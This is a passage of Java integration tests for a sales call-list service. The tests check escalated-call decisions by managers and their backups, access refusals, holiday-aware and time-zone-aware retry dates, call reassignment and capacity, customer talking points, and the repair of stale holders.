        assertThat(unknown.json().keySet()).as(what).isEqualTo(existing.json().keySet());
        assertThat(unknown.json().getString("title")).as(what).isEqualTo(existing.json().getString("title"));
        assertThat(unknown.json().getString("detail").replace(Long.toString(unknownId), "{id}")).as(what)
                .isEqualTo(existing.json().getString("detail").replace(Long.toString(existingId), "{id}"));
    }

    /**
     * The holder's manager is away: the alert goes to the backup the manager named, the call is on the backup's list,
     * and the backup decides for the manager (with the manager's reach) while the manager is away. A colleague who is
     * not the backup, the holder and another team's manager are still refused; once the manager is back, so is the
     * backup.
     */
    @Test
    void whileTheManagerIsAwayTheirBackupIsAlertedAndDecidesAboutAnEscalatedCall() throws Exception {
        String m2 = otherManagerLogin();
        // Maria (m) names Bernd (b, a salesperson of her team) as her backup, and is away from today
        Api.Reply backup = api.asAdmin().postCsv("api/import/salespeople", Csv.lines(
                "external_id,name,email,time_zone,region,daily_capacity,working_days,role,manager,backup",
                team.m + ",Maria Manager,maria@example.com,Europe/Berlin,DE-BE,20,MON-FRI,MANAGER,," + team.b));
        assertThat(backup.json().getJsonArray("rejected")).as(backup.toString()).isEmpty();
        String absence = "[{\"starts_on\":\"" + LocalDate.now(ZoneId.of("Europe/Berlin")).minusDays(1) + "\",\"ends_on\":\""
                + workday.plusDays(14) + "\",\"note\":\"parental leave\"}]";
        assertThat(api.asAdmin().put("api/salespeople/" + team.m + "/absences", absence).status()).isEqualTo(200);

        long id = escalate(team.a, team.customerOfA);

        // the alert reaches the backup, says for whom, and links to the backup's own list, where the call waits
        String prefix = "api/call-lists/" + team.b + "/";
        org.rapport.testing.Eventually.soon().until(() -> alertText("bernd@example.com", prefix) != null);
        String text = alertText("bernd@example.com", prefix);
        assertThat(text).contains("for Maria Manager, who is away");
        String link = text.substring(text.indexOf(prefix)).lines().findFirst().orElseThrow().strip();
        Api.Reply followed = team.as(team.b).get(link);
        assertThat(followed.status()).as(followed.toString()).isEqualTo(200);
        assertThat(followed.json().getJsonArray("items").getValuesAs(JsonObject.class))
                .anyMatch(i -> i.getInt("id") == id && i.getBoolean("escalated"));
        assertThat(alertText("maria@example.com", "api/call-lists/" + team.m + "/")).as("not to the absent manager").isNull();

        // not the holder, not another team, not another team's manager; the backup not beyond the manager's team
        for (String as : List.of(team.a, team.c, m2)) {
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/take", "{}").status()).as(as + " takes").isEqualTo(403);
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/close", "{\"note\":\"mine\"}").status())
                    .as(as + " closes").isEqualTo(403);
        }
        Api.Reply outsideTeam = team.as(team.b).postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"" + team.c + "\"}");
        assertThat(outsideTeam.status()).as("to another team: " + outsideTeam).isEqualTo(403);

        // Maria is back: her backup no longer decides
        assertThat(api.asAdmin().put("api/salespeople/" + team.m + "/absences", "[]").status()).isEqualTo(200);
        assertThat(team.as(team.b).postJson("api/call-lists/items/" + id + "/take", "{}").status()).as("the manager is in").isEqualTo(403);
        assertThat(list(team.as(team.b), team.b).getJsonArray("items").getValuesAs(JsonObject.class))
                .as("nor is it on the backup's list").noneMatch(i -> i.getInt("id") == id);
        // away only later: the backup's list of a day of that absence shows none of her team's escalated calls today
        LocalDate later = BERLIN.plusBusinessDays(workday, 20, "DE-BE");
        assertThat(api.asAdmin().put("api/salespeople/" + team.m + "/absences", "[{\"starts_on\":\"" + later
                + "\",\"ends_on\":\"" + later.plusDays(3) + "\",\"note\":\"later\"}]").status()).isEqualTo(200);
        Api.Reply laterList = team.as(team.b).get("api/call-lists/" + team.b + "/" + later);
        assertThat(laterList.status()).as(laterList.toString()).isEqualTo(200);
        assertThat(laterList.json().getJsonArray("items").getValuesAs(JsonObject.class))
                .as("another day's absence gives no reach today").noneMatch(i -> i.getInt("id") == id);

        // away again: Bernd takes the call himself
        assertThat(api.asAdmin().put("api/salespeople/" + team.m + "/absences", absence).status()).isEqualTo(200);
        Api.Reply taken = team.as(team.b).postJson("api/call-lists/items/" + id + "/take", "{\"note\":\"covering for Maria\"}");
        assertThat(taken.status()).as(taken.toString()).isEqualTo(200);
        assertThat(taken.json().getString("status")).isEqualTo("OPEN");
        assertThat(taken.json().getString("held_by")).isEqualTo(team.b);
    }

    /** A holder without a manager: no alert goes to anyone who cannot act, nobody but an admin decides. */
    @Test
    void anEscalatedCallOfAHolderWithoutAManagerIsDecidedByAnAdminOnly() {
        // Maria (m) has no manager; she owns a customer of her own, and Anna (a) is her backup
        String customer = team.tag + "-CM";
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines(
                "external_id,name,email,time_zone,region,daily_capacity,working_days,role,manager,backup",
                team.m + ",Maria Manager,maria@example.com,Europe/Berlin,DE-BE,20,MON-FRI,MANAGER,," + team.a))
                .json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,preferred_name,email,time_zone,owner",
                customer + "," + customer + " AG,Mia,mia@mu.example,Europe/Berlin," + team.m)).json().getInt("created")).isEqualTo(1);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        long id = escalate(team.m, customer);

        for (String as : List.of(team.m, team.a, team.b)) {
            assertThat(team.as(as).postJson("api/call-lists/items/" + id + "/take", "{}").status()).as(as + " takes").isEqualTo(403);
        }
        assertThat(api.asAdmin().get("api/outbox?template=manager-alert&q=" + customer).array()).as("no alert to nobody").isEmpty();
        // the log says so, and who may act
        java.nio.file.Path log = java.nio.file.Path.of(System.getProperty("rapport.test.war")).resolveSibling("it-server.log");
        org.rapport.testing.Eventually.soon().until(() -> new String(java.nio.file.Files.readAllBytes(log),
                java.nio.charset.StandardCharsets.ISO_8859_1).contains("about " + customer + " AG: Maria Manager has no manager, "
                + "so nobody is alerted; only an admin can decide the escalated call"));
        Api.Reply closed = api.asAdmin().postJson("api/call-lists/items/" + id + "/close", "{\"note\":\"admin decided\"}");
        assertThat(closed.status()).as(closed.toString()).isEqualTo(200);
    }

    @Test
    void theDecisionsOnEscalatedCallsAreDocumentedInOpenApi() {
        Api.Reply openApi = api.anonymous().get("/openapi");
        assertThat(openApi.status()).isEqualTo(200);
        assertThat(openApi.body()).contains("/api/call-lists/items/{id}/take", "/api/call-lists/items/{id}/reassign",
                "/api/call-lists/items/{id}/reschedule", "/api/call-lists/items/{id}/close", "Take an escalated call",
                "Close an escalated call");
        assertThat(openApi.body()).as("the salesperson's own moves").contains("/api/call-lists/items/{id}/snooze",
                "/api/call-lists/items/{id}/hand-back", "Snooze a call", "Hand back a courtesy call");
    }

    @Test
    void theManagerTakesAnEscalatedCallAndItIsOnTheirListToCall() {
        long id = escalate(team.a, team.customerOfA);
        Api.Reply taken = team.as(team.m).postJson("api/call-lists/items/" + id + "/take", "{\"note\":\"I know them\"}");
        assertThat(taken.status()).as(taken.toString()).isEqualTo(200);
        assertThat(taken.json().getString("status")).isEqualTo("OPEN");
        assertThat(taken.json().getString("held_by")).isEqualTo(team.m);
        assertThat(taken.json().getInt("tries")).as("a fresh round of tries").isZero();
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        // on the manager's list from today, once the contact policy's three days after the three tries have passed
        LocalDate later = BERLIN.plusBusinessDays(workday, 3, "DE-BE");
        JsonObject mine = item(listOn(team.m, later), team.customerOfA);
        assertThat(mine.getBoolean("escalated")).isFalse();
        assertThat(mine.getString("status")).isEqualTo("OPEN");
        assertThat(customers(listOn(team.a, later))).as("no longer on the owner's list").doesNotContain(team.customerOfA);
        assertThat(list(team.as(team.m), team.m).getJsonArray("items").getValuesAs(JsonObject.class))
                .as("no longer waiting for a decision").noneMatch(i -> i.getInt("id") == id && i.getBoolean("escalated"));
        assertThat(outcome(team.as(team.a), id, "{\"outcome\":\"REACHED\"}").status()).as("not the owner's call any more").isEqualTo(403);
        assertThat(taken.json().getString("not_before_on")).isEqualTo(today.toString());
        Api.Reply reached = outcome(team.as(team.m), id, "{\"outcome\":\"REACHED\",\"note\":\"sorted\"}");
        assertThat(reached.status()).as(reached.toString()).isEqualTo(200);
        assertThat(reached.json().getString("status")).isEqualTo("DONE");
    }

    /**
     * A decided call is dated in its new holder's zone, as their list is: here the customer lives a calendar day away
     * from the team in Berlin (whichever of Kiritimati, UTC+14, and Pago Pago, UTC-11, is on another date right now).
     */
    @Test
    void aDecidedCallIsDatedInItsHoldersZoneNotTheCustomers() {
        long id = escalate(team.a, team.customerOfA);
        ZoneId holders = ZoneId.of("Europe/Berlin");
        LocalDate today = LocalDate.now(holders);
        String far = LocalDate.now(ZoneId.of("Pacific/Kiritimati")).equals(today) ? "Pacific/Pago_Pago" : "Pacific/Kiritimati";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,preferred_name,email,time_zone,owner",
                team.customerOfA + ",Alpha GmbH,Alfred,alfred@alpha.example," + far + "," + team.a)).status()).isEqualTo(200);
        assertThat(LocalDate.now(ZoneId.of(far))).as("the customer's date").isNotEqualTo(today);

        Api.Reply taken = team.as(team.m).postJson("api/call-lists/items/" + id + "/take", "{}");
        assertThat(taken.status()).as(taken.toString()).isEqualTo(200);
        assertThat(taken.json().getString("not_before_on")).as("taken: the manager's today").isEqualTo(today.toString());

        long other = escalate(team.b, team.customerOfB);
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,preferred_name,email,time_zone,owner",
                team.customerOfB + ",Beta KG,Berta,berta@beta.example," + far + "," + team.b)).status()).isEqualTo(200);
        Api.Reply given = team.as(team.m).postJson("api/call-lists/items/" + other + "/reassign", "{\"salesperson\":\"" + team.a + "\"}");
        assertThat(given.status()).as(given.toString()).isEqualTo(200);
        assertThat(given.json().getString("not_before_on")).as("reassigned: the colleague's today").isEqualTo(today.toString());
    }

    /** Rescheduling checks the date against the holder's today, not the customer's. */
    @Test
    void aRescheduleIsCheckedAgainstTheHoldersToday() {
        long id = escalate(team.a, team.customerOfA);
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        boolean customerAhead = !LocalDate.now(ZoneId.of("Pacific/Kiritimati")).equals(today);
        String far = customerAhead ? "Pacific/Kiritimati" : "Pacific/Pago_Pago";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,preferred_name,email,time_zone,owner",
                team.customerOfA + ",Alpha GmbH,Alfred,alfred@alpha.example," + far + "," + team.a)).status()).isEqualTo(200);
        LocalDate customers = LocalDate.now(ZoneId.of(far));
        assertThat(customers).isNotEqualTo(today);
        if (customerAhead) { // the holder's today is the customer's yesterday: still a date the holder can be given
            Api.Reply rescheduled = team.as(team.m).postJson("api/call-lists/items/" + id + "/reschedule",
                    "{\"reschedule_to\":\"" + today + "\"}");
            assertThat(rescheduled.status()).as(rescheduled.toString()).isEqualTo(200);
        } else { // the customer's today is the holder's yesterday: in the past for the holder
            Api.Reply rescheduled = team.as(team.m).postJson("api/call-lists/items/" + id + "/reschedule",
                    "{\"reschedule_to\":\"" + customers + "\"}");
            assertThat(rescheduled.status()).as(rescheduled.toString()).isEqualTo(400);
            assertThat(rescheduled.json().getString("detail")).isEqualTo("reschedule_to: " + customers
                    + " is in the past (today is " + today + ").");
        }
    }

    @Test
    void theManagerGivesAnEscalatedCallToAColleagueWhoCallsIt() {
        long id = escalate(team.a, team.customerOfA);
        Api.Reply given = team.as(team.m).postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"" + team.b
                + "\",\"note\":\"Bernd knows them\"}");
        assertThat(given.status()).as(given.toString()).isEqualTo(200);
        assertThat(given.json().getString("held_by")).isEqualTo(team.b);
        assertThat(given.json().getString("status")).isEqualTo("OPEN");
        LocalDate later = BERLIN.plusBusinessDays(workday, 3, "DE-BE");
        JsonObject onColleagues = item(listOn(team.b, later), team.customerOfA);
        assertThat(onColleagues.getBoolean("escalated")).isFalse();
        assertThat(list(team.as(team.m), team.m).getJsonArray("items").getValuesAs(JsonObject.class))
                .as("decided: off the manager's list").noneMatch(i -> i.getInt("id") == id);
        assertThat(customers(listOn(team.a, later))).doesNotContain(team.customerOfA);
        Api.Reply reached = outcome(team.as(team.b), id, "{\"outcome\":\"REACHED\"}");
        assertThat(reached.status()).as(reached.toString()).isEqualTo(200);
        assertThat(reached.json().getString("status")).isEqualTo("DONE");
    }

    @Test
    void theManagerReschedulesOrClosesAnEscalatedCall() {
        long id = escalate(team.a, team.customerOfA);
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        Api.Reply past = team.as(team.m).postJson("api/call-lists/items/" + id + "/reschedule", "{\"reschedule_to\":\"" + today.minusDays(1) + "\"}");
        assertThat(past.status()).as(past.toString()).isEqualTo(400);
        LocalDate later = BERLIN.plusBusinessDays(workday, 3, "DE-BE");
        Api.Reply rescheduled = team.as(team.m).postJson("api/call-lists/items/" + id + "/reschedule", "{\"reschedule_to\":\"" + later
                + "\",\"note\":\"after the holidays\"}");
        assertThat(rescheduled.status()).as(rescheduled.toString()).isEqualTo(200);
        assertThat(rescheduled.json().getString("status")).isEqualTo("OPEN");
        assertThat(rescheduled.json().getString("held_by")).isEqualTo(team.a);
        assertThat(customers(list(team.as(team.a), team.a))).doesNotContain(team.customerOfA);
        JsonObject back = item(listOn(team.a, later), team.customerOfA);
        assertThat(back.getBoolean("escalated")).isFalse();
        assertThat(back.getInt("tries")).isZero();

        long other = escalate(team.b, team.customerOfB);
        Api.Reply closed = team.as(team.m).postJson("api/call-lists/items/" + other + "/close", "{\"note\":\"customer moved away\"}");
        assertThat(closed.status()).as(closed.toString()).isEqualTo(200);
        assertThat(closed.json().getString("status")).isEqualTo("DONE");
        JsonObject touch = api.asAdmin().get("api/planned-touches?customer=" + team.customerOfB).array().getValuesAs(JsonObject.class)
                .stream().filter(t -> t.getInt("id") == other).findFirst().orElseThrow();
        assertThat(touch.getString("outcome")).isEqualTo("CLOSED");
        assertThat(touch.getString("note")).isEqualTo("customer moved away");
        assertThat(list(team.as(team.m), team.m).getJsonArray("items").getValuesAs(JsonObject.class))
                .noneMatch(i -> i.getInt("id") == other);
        assertThat(team.as(team.m).postJson("api/call-lists/items/" + other + "/close", "{\"note\":\"again\"}").status())
                .as("DONE is final").isEqualTo(409);
    }

    @Test
    void anUnansweredCallComesBackOnTheSecondDayItsHolderWorks() {
        // a salesperson off the next three days: the retry skips them, not only weekends and holidays (Monday to
        // Friday, two business days are at most four days away)
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        java.util.EnumSet<java.time.DayOfWeek> days = java.util.EnumSet.allOf(java.time.DayOfWeek.class);
        for (int i = 1; i <= 3; i++) {
            days.remove(today.plusDays(i).getDayOfWeek());
        }
        String seller = Csv.unique("off");
        String workingDays = days.stream().map(d -> d.name().substring(0, 3)).collect(java.util.stream.Collectors.joining(","));
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,working_days",
                seller + ",Olga Off,Europe/Berlin,\"" + workingDays + "\"")).json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,Off Customer,Europe/Berlin," + seller + ",TOP10")).json().getInt("created")).isEqualTo(1);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        long id = api.asAdmin().get("api/planned-touches?customer=" + seller + "-1").array().getValuesAs(JsonObject.class).stream()
                .filter(t -> t.getString("rule").equals("COURTESY")).findFirst().orElseThrow().getInt("id");

        Api.Reply tried = outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}");
        assertThat(tried.status()).as(tried.toString()).isEqualTo(200);
        BusinessCalendar calendar = new BusinessCalendar(new JollydayHolidays(), companyHolidays());
        LocalDate back = LocalDate.parse(tried.json().getString("not_before_on"));
        assertThat(back).isEqualTo(calendar.callDayAfter(today, 2, null, new Workweek(null, days))).isAfterOrEqualTo(today.plusDays(5));
    }

    /**
     * A retry skips the public holidays of the holder's region (their list is closed that day) and those of the
     * customer's region (as the follow-up's due dates do): one rule, {@code BusinessCalendar.callDayAfter}.
     */
    @Test
    void aRetryKeepsOffTheHoldersAndTheCustomersPublicHolidays() {
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        BusinessCalendar calendar = new BusinessCalendar(new JollydayHolidays(), companyHolidays());
        // salespeople who work one day of the week, the day of a public holiday somewhere in the coming week: the retry
        // two of their working days on is the week after that holiday, or the week after that where it is a holiday
        Map.Entry<String, LocalDate> holiday = publicHolidayInTheComingWeek(today, calendar);
        String region = holiday.getKey();
        LocalDate h = holiday.getValue();
        java.util.Set<java.time.DayOfWeek> days = java.util.EnumSet.of(h.getDayOfWeek());
        String day = h.getDayOfWeek().name().substring(0, 3);
        String seller = Csv.unique("hol");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,region,working_days",
                seller + "-IN,Holly Inside,Europe/Berlin," + region + "," + day,
                seller + "-OUT,Otto Outside,Europe/Berlin,," + day)).json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,region,owner,tier",
                seller + "-1,No Holiday Here,Europe/Berlin,," + seller + "-IN,TOP10",
                seller + "-2,Holiday Here,Europe/Berlin," + region + "," + seller + "-OUT,TOP10",
                seller + "-3,No Holiday Here Either,Europe/Berlin,," + seller + "-OUT,TOP10")).json().getInt("created")).isEqualTo(3);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        LocalDate plain = calendar.callDayAfter(today, 2, null, new Workweek(null, days));
        LocalDate skipping = calendar.callDayAfter(today, 2, region, new Workweek(null, days));
        assertThat(skipping).as("%s is a public holiday in %s and one of the two days", h, region).isAfter(plain)
                .isEqualTo(calendar.callDayAfter(today, 2, null, new Workweek(region, days)));
        assertThat(retry(seller + "-1")).as("the holder's public holiday is skipped").isEqualTo(skipping);
        assertThat(retry(seller + "-2")).as("the customer's public holiday is skipped").isEqualTo(skipping);
        assertThat(retry(seller + "-3")).as("no holiday on either side").isEqualTo(plain);
        assertThat(api.asAdmin().get("api/call-lists/" + seller + "-IN/" + h).json().getBoolean("working_day"))
                .as("their region's public holiday").isFalse();
        assertThat(listOn(api.asAdmin(), seller + "-OUT", h).getBoolean("working_day")).isTrue();
    }

    /** The date the customer's courtesy call comes back on after an unanswered try. */
    private LocalDate retry(String customer) {
        long id = api.asAdmin().get("api/planned-touches?customer=" + customer).array().getValuesAs(JsonObject.class).stream()
                .filter(t -> t.getString("rule").equals("COURTESY")).findFirst().orElseThrow().getInt("id");
        Api.Reply tried = outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}");
        assertThat(tried.status()).as(tried.toString()).isEqualTo(200);
        return LocalDate.parse(tried.json().getString("not_before_on"));
    }

    /**
     * A country and a day of the coming week that is a public holiday there (jollyday knows about a hundred countries:
     * some have one every week) and no company holiday, the first day after {@code today} of its day of the week.
     */
    private static Map.Entry<String, LocalDate> publicHolidayInTheComingWeek(LocalDate today, BusinessCalendar calendar) {
        JollydayHolidays holidays = new JollydayHolidays();
        List<String> countries = de.focus_shift.jollyday.core.HolidayManager.getSupportedCalendarCodes().stream()
                .filter(Set.of(java.util.Locale.getISOCountries())::contains).sorted().toList();
        for (int i = 1; i <= 7; i++) {
            LocalDate day = today.plusDays(i);
            if (!calendar.worksOn(day, new Workweek(null, java.util.EnumSet.of(day.getDayOfWeek())))) {
                continue;
            }
            for (String country : countries) {
                if (holidays.of(country, day.getYear()).contains(day)) {
                    return Map.entry(country, day);
                }
            }
        }
        throw new AssertionError("no country jollyday knows has a public holiday in the week after " + today);
    }

    /**
     * The room on a call list is counted by who holds a call: a call a manager gave to a colleague frees its owner's room
     * and takes the colleague's, so the planner's choice between a STANDARD courtesy call and an email follows the lists.
     */
    @Test
    void aReassignedCallFreesItsOwnersRoomAndTakesTheAssignees() {
        String seller = Csv.unique("room");
        String domain = seller.toLowerCase() + ".example";
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,email,time_zone,daily_capacity,working_days",
                seller + "-X,Xenia Owner,x@" + domain + ",Europe/Berlin,1,MON-SUN",
                seller + "-Y,Yann Assignee,y@" + domain + ",Europe/Berlin,1,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,email,time_zone,owner,tier",
                seller + "-1,Given Away,one@" + domain + ",Europe/Berlin," + seller + "-X,TOP10")).json().getInt("created")).isEqualTo(1);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        long id = single(seller + "-1").getInt("id");
        for (int i = 1; i <= 3; i++) {
            assertThat(outcome(api.asAdmin(), id, "{\"outcome\":\"NO_ANSWER\"}").status()).isEqualTo(200);
        }
        Api.Reply given = api.asAdmin().postJson("api/call-lists/items/" + id + "/reassign", "{\"salesperson\":\"" + seller + "-Y\"}");
        assertThat(given.status()).as(given.toString()).isEqualTo(200);
        assertThat(given.json().getString("status")).isEqualTo("OPEN");

        // a STANDARD customer of each, due for a courtesy call today: the one whose list is full gets an email instead
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,email,time_zone,owner,tier",
                seller + "-2,Owners Other,two@" + domain + ",Europe/Berlin," + seller + "-X,STANDARD",
                seller + "-3,Assignees Own,three@" + domain + ",Europe/Berlin," + seller + "-Y,STANDARD")).json().getInt("created"))
                .isEqualTo(2);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        assertThat(single(seller + "-2").getString("channel")).as("the owner's room is free again: a call").isEqualTo("CALL");
        assertThat(single(seller + "-3").getString("channel")).as("the assignee's room is taken: an email").isEqualTo("EMAIL");

        // the owner's list says the same: the call given away is not on it, the new call fits, nothing overflows (on the
        // assignee's list the call limit holds the given call back today: its three tries were calls)
        JsonObject owners = listOn(api.asAdmin(), seller + "-X", everyDay(LocalDate.now(ZoneId.of("Europe/Berlin"))));
        assertThat(customers(owners)).containsExactly(seller + "-2");
        assertThat(owners.getInt("overflow")).isZero();
    }

    /**
     * A card's talking points: the customer's three last touches newest first, the problems open or resolved in the last
     * 30 days, the three last purchases of the last 180 days newest first.
     */
    @Test
    void theTalkingPointsAreTheLastTouchesTheRecentProblemsAndTheLastPurchases() {
        String seller = everyDaySeller("talk");
        String customer = seller + "-1";
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                customer + ",Talk GmbH,Europe/Berlin," + seller + ",TOP10")).json().getInt("created")).isEqualTo(1);
        java.time.Instant now = java.time.Instant.now();
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        for (int[] problem : new int[][] {{70, 60}, {20, 10}}) {
            String id = customer + "-P" + problem[0];
            assertThat(api.asAdmin().postJson("api/problems", "{\"external_id\":\"" + id + "\",\"customer\":\"" + customer
                    + "\",\"opened_at\":\"" + now.minus(java.time.Duration.ofDays(problem[0])) + "\",\"summary\":\"Problem "
                    + problem[0] + "\"}").status()).isEqualTo(201);
            assertThat(api.asAdmin().postJson("api/problems/" + id + "/resolve", "{\"resolution\":\"Fixed\",\"resolved_at\":\""
                    + now.minus(java.time.Duration.ofDays(problem[1])) + "\"}").status()).isEqualTo(200);
        }
        List<String> purchases = new java.util.ArrayList<>(List.of("external_id,customer,purchased_on,amount,currency,description"));
        for (int days : new int[] {200, 40, 30, 20, 10}) {
            purchases.add(customer + "-B" + days + "," + customer + "," + today.minusDays(days) + ",100.00,EUR,Bought " + days);
        }
        assertThat(api.asAdmin().postCsv("api/import/purchases", Csv.lines(purchases.toArray(String[]::new))).json()
                .getInt("created")).isEqualTo(5);
        for (int days = 4; days >= 1; days--) {
            Api.Reply note = api.asAdmin().postJson("api/touches", "{\"customer\":\"" + customer + "\",\"kind\":\"NOTE\","
                    + "\"outcome\":\"NOTED\",\"note\":\"Note " + days + "\",\"occurred_at\":\""
                    + now.minus(java.time.Duration.ofDays(days)) + "\"}");
            assertThat(note.status()).as(note.toString()).isEqualTo(201);
        }
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

        JsonObject item = item(listOn(api.asAdmin(), seller, everyDay(today)), customer);
        assertThat(item.getJsonArray("last_touches").getValuesAs(JsonObject.class)).extracting(t -> t.getString("note"))
                .containsExactly("Note 1", "Note 2", "Note 3");
        assertThat(item.getJsonArray("problems").getValuesAs(JsonObject.class)).extracting(p -> p.getString("summary"))
                .containsExactly("Problem 20");
        assertThat(item.getJsonArray("recent_purchases").getValuesAs(JsonObject.class)).extracting(p -> p.getString("description"))
                .containsExactly("Bought 10", "Bought 20", "Bought 30");
    }

    /**
     * The open call of a customer moves with the customer: imported again with another owner, the customer's call is on
     * the new owner's list and gone from the old one's; a call a manager gave to someone stays with them.
     */
    @Test
    void anOpenCallFollowsItsCustomerToANewOwner() {
        String seller = Csv.unique("move");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,working_days",
                seller + "-X,Xaver Before,Europe/Berlin,MON-SUN",
                seller + "-Y,Yvonne After,Europe/Berlin,MON-SUN",
                seller + "-Z,Zora Given,Europe/Berlin,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,Moving Co,Europe/Berlin," + seller + "-X,TOP10",
                seller + "-2,Given Co,Europe/Berlin," + seller + "-X,TOP10")).json().getInt("created")).isEqualTo(2);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        LocalDate day = everyDay(LocalDate.now(ZoneId.of("Europe/Berlin")));
        assertThat(customers(listOn(api.asAdmin(), seller + "-X", day))).containsExactlyInAnyOrder(seller + "-1", seller + "-2");
        long given = single(seller + "-2").getInt("id");
        for (int i = 1; i <= 3; i++) {
            assertThat(outcome(api.asAdmin(), given, "{\"outcome\":\"NO_ANSWER\"}").status()).isEqualTo(200);
        }
        Api.Reply reassigned = api.asAdmin().postJson("api/call-lists/items/" + given + "/reassign", "{\"salesperson\":\"" + seller
                + "-Z\"}");
        assertThat(reassigned.status()).as(reassigned.toString()).isEqualTo(200);

        Api.Reply moved = api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,Moving Co,Europe/Berlin," + seller + "-Y,TOP10",
                seller + "-2,Given Co,Europe/Berlin," + seller + "-Y,TOP10"));
        assertThat(moved.json().getInt("updated")).as(moved.toString()).isEqualTo(2);

        assertThat(customers(listOn(api.asAdmin(), seller + "-Y", day))).as("the new owner's list").containsExactly(seller + "-1");
        assertThat(customers(listOn(api.asAdmin(), seller + "-X", day))).as("the old owner's list").isEmpty();
        assertThat(listOn(api.asAdmin(), seller + "-X", day).getInt("overflow")).isZero();
        // the given call stays with the one it was given to: on her list once the contact window has passed its three tries
        LocalDate later = everyDay(day.plusDays(CallListService.CALL_WINDOW_DAYS));
        assertThat(customers(listOn(api.asAdmin(), seller + "-Z", later))).as("Zora's list").containsExactly(seller + "-2");
        assertThat(customers(listOn(api.asAdmin(), seller + "-Y", later))).as("Yvonne's list").containsExactly(seller + "-1");
    }

    /**
     * A call whose holder is missing or stale (written by an older instance during a rolling upgrade, or planned while an
     * import moved its customer) is set right by the next plan of its customer: the plan page reconciles its customers'
     * holders in its own transaction.
     */
    @Test
    void thePlanSetsAStaleHolderRight() throws Exception {
        String seller = Csv.unique("stale");
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines("external_id,name,time_zone,working_days",
                seller + "-X,Xaver Owner,Europe/Berlin,MON-SUN",
                seller + "-Y,Yusuf Former,Europe/Berlin,MON-SUN")).json().getJsonArray("rejected")).isEmpty();
        assertThat(api.asAdmin().postCsv("api/import/customers", Csv.lines("external_id,company,time_zone,owner,tier",
                seller + "-1,Stale Co,Europe/Berlin," + seller + "-X,TOP10")).json().getInt("created")).isEqualTo(1);
        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
        LocalDate day = everyDay(LocalDate.now(ZoneId.of("Europe/Berlin")));
        long id = single(seller + "-1").getInt("id");
        for (String holder : new String[] {"NULL", "(SELECT id FROM salesperson WHERE external_id = '" + seller + "-Y')"}) {
            try (java.sql.Connection db = db(); java.sql.Statement s = db.createStatement()) {
                assertThat(s.executeUpdate("UPDATE planned_touch SET holder_id = " + holder + " WHERE id = " + id)).isEqualTo(1);
            }
            assertThat(customers(listOn(api.asAdmin(), seller + "-X", day))).as("holder %s", holder).isEmpty();

            assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);

            assertThat(customers(listOn(api.asAdmin(), seller + "-X", day))).as("after the plan").containsExactly(seller + "-1");
            assertThat(customers(listOn(api.asAdmin(), seller + "-Y", day))).isEmpty();
        }
    }

    /**
     * The morning digests build all their lists in one pass (CallListService.lists); each digest holds the same calls
     * in the same order as that salesperson's list asked for alone, also when one list carries an absent colleague's calls
     * and an escalated call is on two lists (its holder's and the manager's).
     */
    @Test
    void theDigestsBuiltTogetherHoldWhatEachListHoldsAlone() throws Exception {
        int offset = Math.max(-12, Math.min(14, 12 - java.time.ZonedDateTime.now(ZoneId.of("UTC")).getHour()));
        String zone = offset == 0 ? "Etc/GMT" : "Etc/GMT" + (offset > 0 ? "-" : "+") + Math.abs(offset);
        LocalDate today = LocalDate.now(ZoneId.of(zone));
        String seller = Csv.unique("set");
        String domain = seller.toLowerCase() + ".example";
        assertThat(api.asAdmin().postCsv("api/import/salespeople", Csv.lines(
                "external_id,name,email,time_zone,daily_capacity,working_days,backup,manager,role",
